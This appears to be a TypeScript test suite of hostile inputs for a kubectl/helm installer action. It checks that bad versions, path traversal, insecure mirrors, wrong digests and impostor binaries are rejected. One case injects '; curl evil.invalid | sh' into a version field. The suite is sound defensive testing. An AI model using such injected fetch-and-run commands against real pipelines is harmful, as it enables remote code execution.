import type { HostileCase } from '../hostile-case.js'
import { ran } from '../impostor-mirror.js'

/**
 * Tools. Guards: only a kubectl or helm whose sha256 is trusted ever runs. A mirror's own checksum
 * file proves nothing (whoever controls the mirror writes both), so the digest comes from the action's
 * table or from `kubectl-sha256` / `helm-sha256`; a plain-http mirror needs `allow-insecure-mirror`;
 * a version is an exact version, never a path or a shell word. The impostor cases also check that the
 * impostor never ran.
 *
 * kubectl is installed only when a command needs it: the kubectl cases apply client-side, which does.
 */
const NEEDS_KUBECTL = { 'server-side': 'false' }

export const toolCases: HostileCase[] = [
  {
    name: 'kubectl-version "latest"',
    inputs: () => ({ 'kubectl-version': 'latest' }),
    error: /input "kubectl-version"/
  },
  {
    name: 'kubectl-version with shell words in it',
    inputs: c => ({ 'kubectl-version': `${c.cluster.kubectlVersion}; curl evil.invalid | sh` }),
    error: /input "kubectl-version"/
  },
  {
    name: 'kubectl-version that climbs out of the mirror',
    inputs: c => ({ 'kubectl-version': `${c.cluster.kubectlVersion}/../../../elsewhere` }),
    error: /input "kubectl-version"/
  },
  {
    name: 'kubectl-version the digest table does not know, without kubectl-sha256',
    inputs: () => ({ ...NEEDS_KUBECTL, 'kubectl-version': 'v1.33.99', 'kubectl-sha256': '' }),
    download: 'kubectl',
    error: /input "(kubectl-version|kubectl-sha256)"/
  },
  {
    name: 'kubectl-mirror that is not http(s)',
    inputs: () => ({ 'kubectl-mirror': 'file:///usr/local/bin' }),
    error: /input "kubectl-mirror"/
  },
  {
    name: 'plain http kubectl-mirror without allow-insecure-mirror',
    inputs: () => ({ ...NEEDS_KUBECTL, 'allow-insecure-mirror': 'false' }),
    download: 'kubectl',
    error: /input "(kubectl-mirror|allow-insecure-mirror)"/
  },
  {
    name: 'plain http kubectl-mirror with a password in its URL, without allow-insecure-mirror',
    inputs: c => {
      const url = new URL(c.mirror.kubectlUrl)
      url.username = 'mirror'
      url.password = c.secrets.mirrorPassword
      return { ...NEEDS_KUBECTL, 'kubectl-mirror': url.toString(), 'allow-insecure-mirror': 'false' }
    },
    download: 'kubectl',
    error: /input "(kubectl-mirror|allow-insecure-mirror)"/
  },
  {
    name: 'allow-insecure-mirror that is not a boolean',
    inputs: () => ({ 'allow-insecure-mirror': 'perhaps' }),
    error: /input "allow-insecure-mirror"/
  },
  {
    name: 'kubectl-sha256 that the download does not match',
    inputs: () => ({ ...NEEDS_KUBECTL, 'kubectl-sha256': '0'.repeat(64) }),
    download: 'kubectl',
    error: /input "kubectl-sha256"/
  },
  {
    name: 'kubectl-sha256 that is not a sha256',
    inputs: () => ({ 'kubectl-sha256': 'abc123' }),
    error: /input "kubectl-sha256"/
  },
  {
    name: 'mirror serving another kubectl with a matching checksum file (kubectl-sha256 pinned)',
    inputs: c => ({ ...NEEDS_KUBECTL, 'kubectl-mirror': c.impostors.mirror.kubectlUrl }),
    download: 'kubectl',
    error: /input "(kubectl-sha256|kubectl-mirror)"/,
    alsoCheck: c => (ran(c.impostors.kubectlMarker) ? ['the impostor kubectl ran'] : [])
  },
  {
    name: 'mirror serving another kubectl with a matching checksum file (no digest given)',
    inputs: c => ({
      ...NEEDS_KUBECTL,
      'kubectl-mirror': c.impostors.mirror.kubectlUrl,
      'kubectl-sha256': ''
    }),
    download: 'kubectl',
    error: /input "(kubectl-sha256|kubectl-mirror)"/,
    alsoCheck: c => (ran(c.impostors.kubectlMarker) ? ['the impostor kubectl ran'] : [])
  },
  {
    name: 'helm-version that is not exact',
    inputs: () => ({ command: 'helm', 'helm-version': '3.19' }),
    error: /input "helm-version"/
  },
  {
    name: 'helm-mirror that is not http(s)',
    inputs: () => ({ command: 'helm', 'helm-mirror': 'ftp://127.0.0.1/helm' }),
    error: /input "helm-mirror"/
  },
  {
    name: 'helm-sha256 that the download does not match',
    inputs: () => ({ command: 'helm', 'helm-sha256': 'f'.repeat(64) }),
    download: 'helm',
    error: /input "helm-sha256"/
  },
  {
    name: 'mirror serving another helm with a matching checksum file (helm-sha256 pinned)',
    inputs: c => ({ command: 'helm', 'helm-mirror': c.impostors.mirror.helmUrl }),
    download: 'helm',
    error: /input "(helm-sha256|helm-mirror)"/,
    alsoCheck: c => (ran(c.impostors.helmMarker) ? ['the impostor helm ran'] : [])
  }
]
